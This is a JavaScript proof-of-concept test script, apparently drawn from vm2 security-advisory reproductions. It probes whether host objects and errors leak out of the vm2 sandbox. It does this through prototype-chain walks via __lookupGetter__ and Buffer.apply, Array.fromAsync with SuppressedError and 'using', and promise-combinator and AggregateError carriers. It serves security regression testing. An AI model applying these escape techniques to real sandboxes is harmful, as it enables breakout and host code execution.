// Source: vm2 test/ghsa/GHSA-55hx-c926-fr95/repro.js, structural-leak.js and
// structural-leak-variants.js (duplicate GHSA-35vh-489p-v7cx; fixed in vm2 3.11.0); docs/ATTACKS.md
// Category 19. The "exposed host async function" variants need an embedder-provided async host
// function, which this sandbox does not have; the sandbox's own promises stand in.
// Tried: walk to the host Array, call its Array.fromAsync for a host promise whose .catch is not
// sanitised, and have the callback raise a SuppressedError carrying a host TypeError (using + eval);
// Promise.allSettled / Promise.any / AggregateError carriers of host errors.
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = { fromAsync: typeof Array.fromAsync };
const hostError = () => { const e = new Error(); e.name = Symbol(); return e.stack; };
const check = (e, label) => {
  __wr.use(e, label);
  try { __wr.use(e.error, label + '.error'); __wr.use(e.suppressed, label + '.suppressed'); } catch (x) {}
  try { for (const sub of e.errors || []) __wr.use(sub, label + '.errors[i]'); } catch (x) {}
};
try {
  const g = ({}).__lookupGetter__;
  const a = Buffer.apply;
  const raw = a.apply(g, [Buffer, ['__proto__']]);
  out.getter = typeof raw;
  const p = typeof raw === 'function' ? raw : { call: (x) => Object.getPrototypeOf(x) };
  const op = p.call(p.call(p.call(p.call(Buffer.of()))));
  const ho = op.constructor;
  const ap = p.call(ho.entries({}));
  const ha = ap.constructor;
  out.hostArrayIsSandboxArray = ha === Array;
  if (typeof ha.fromAsync === 'function') {
    await ha.fromAsync([0], () => {
      globalThis.obj = { [Symbol.dispose]: hostError };
      eval('{using a = obj; throw null;}');
    }).catch((e) => check(e, 'fromAsync rejection'));
  }
} catch (e) { out.walk = String(e.message).slice(0, 100); }
const rejecting = () => new Promise(() => { hostError(); throw new URL(''); });
await Promise.allSettled([rejecting(), Promise.reject(new Error('x'))]).then((r) => r.forEach((s) => check(s.reason, 'allSettled reason')));
if (typeof Promise.any === 'function') await Promise.any([rejecting(), rejecting()]).catch((e) => check(e, 'Promise.any AggregateError'));
await Promise.race([rejecting()]).catch((e) => check(e, 'Promise.race'));
try {
  const nested = new Error('nested');
  nested.name = Symbol();
  const agg = new AggregateError([typeof SuppressedError === 'function' ? new SuppressedError(nested, new Error('s'), 'agg') : nested], 'any-failed');
  await Promise.reject(agg).catch((e) => check(e, 'AggregateError'));
} catch (e) { out.aggregate = String(e.message).slice(0, 80); }
return out;
